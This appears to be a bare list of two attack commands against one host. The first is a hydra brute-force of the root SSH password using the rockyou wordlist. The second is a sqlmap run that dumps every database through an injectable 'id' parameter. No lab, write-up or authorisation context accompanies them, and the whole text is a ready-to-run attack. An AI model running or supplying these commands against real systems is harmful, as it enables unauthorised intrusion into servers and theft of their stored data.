hydra -l root -P /usr/share/wordlists/rockyou.txt -t 16 ssh://203.0.113.15
sqlmap -u 'http://203.0.113.15/item?id=1' --dump-all --batch
